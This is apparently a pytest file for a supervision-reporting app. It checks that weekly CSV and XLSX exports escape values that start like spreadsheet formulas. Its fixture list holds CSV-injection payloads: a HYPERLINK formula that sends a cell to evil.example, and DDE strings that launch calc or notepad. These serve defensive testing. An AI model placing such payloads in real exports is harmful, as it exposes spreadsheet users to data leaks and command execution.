"""Weekly reports never hand a spreadsheet a live formula (OWASP "CSV Injection").

A supervisee's name or an office's name is typed by people; a value that starts like a formula
(``=``, ``+``, ``-``, ``@``, tab, carriage return, or their full-width forms) must arrive as text.
Each format is read back: the CSV with the csv module, the XLSX with openpyxl.
"""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from correction.reports.render import COLUMNS, to_csv, to_xlsx
from tests.factories import API

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTAB=1", "\rCR=1", "＝１＋１"]
NAME = COLUMNS.index(("name", "姓名 Name", "text"))


@pytest.fixture
def hostile_report(make, auth):
    office = make.office(name="=cmd|' /C notepad'!A0")
    officer = make.officer(office)
    people = [make.supervisee(office, officer.officer, name=name)
              for name in HOSTILE]
    return auth.officer(officer), people


def download(client, headers, fmt: str):
    response = client.get(f"{API}/reports/weekly", query_string={"week": "2026-W48", "format": fmt},
                          headers=headers)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.data


def test_csv_cells_that_start_like_a_formula_get_a_leading_quote(client, hostile_report):
    headers, _ = hostile_report
    header, *rows = list(csv.reader(io.StringIO(download(client, headers, "csv").decode("utf-8-sig"))))
    names = sorted(row[1 + NAME] for row in rows)
    assert names == sorted("'" + name for name in HOSTILE)
    offices = {row[1 + COLUMNS.index(("office", "司法所 Office", "text"))] for row in rows}
    assert offices == {"'=cmd|' /C notepad'!A0"}


def test_xlsx_cells_that_start_like_a_formula_are_text_not_formulas(client, hostile_report):
    headers, _ = hostile_report
    book = openpyxl.load_workbook(io.BytesIO(download(client, headers, "xlsx")))
    try:
        table = book["Supervisees"]
        cells = [row[NAME] for row in table.iter_rows(min_row=2)]
        # shown exactly as written (XML reads a carriage return back as a line feed)
        assert sorted(cell.value for cell in cells) == sorted(name.replace("\r", "\n") for name in HOSTILE)
        assert {cell.data_type for cell in cells} == {"s"}  # a string, never "f" (formula)
        assert all(cell.quotePrefix for cell in cells if cell.value.startswith(("=", "+", "-", "@")))
        formulas = [cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row
                    if cell.data_type == "f"]
        assert formulas == []
        assert book["Summary"]["A1"].data_type == "s"  # the title carries the office's name
    finally:
        book.close()


def minimal_report(**row) -> dict:
    base = {key: 0 if kind == "int" else None for key, _, kind in COLUMNS}
    base.update(supervisee_id=1, name="张三", office="城中街道司法所", level="normal", status_colour="green")
    base.update(row)
    return {"week": "2026-W47", "title": "t", "from": "2026-11-16", "to": "2026-11-22", "provisional": False,
            "totals": {"supervisees": 1, "points_earned": -5}, "supervisees": [base], "alerts_by_type": [],
            "daily": []}


def test_numbers_stay_numbers_and_a_negative_number_is_not_escaped():
    report = minimal_report(points_earned=-5, misses=3, on_time_rate=0.5, name="-张三")
    (row,) = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"))))[1:]
    assert row[1 + COLUMNS.index(("points_earned", "得分 Points earned", "int"))] == "-5"
    assert row[1 + NAME] == "'-张三"
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(report)))
    try:
        cells = list(book["Supervisees"].iter_rows(min_row=2))[0]
        earned = cells[COLUMNS.index(("points_earned", "得分 Points earned", "int"))]
        assert (earned.value, earned.data_type) == (-5, "n")
        assert (cells[NAME].value, cells[NAME].data_type) == ("-张三", "s")
        assert book["Summary"]["B5"].value == -5 and book["Summary"]["B5"].data_type == "n"
    finally:
        book.close()


def test_ordinary_text_is_left_as_it_is():
    report = minimal_report(name="王五 (O'Neil)")
    (row,) = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"))))[1:]
    assert row[1 + NAME] == "王五 (O'Neil)"
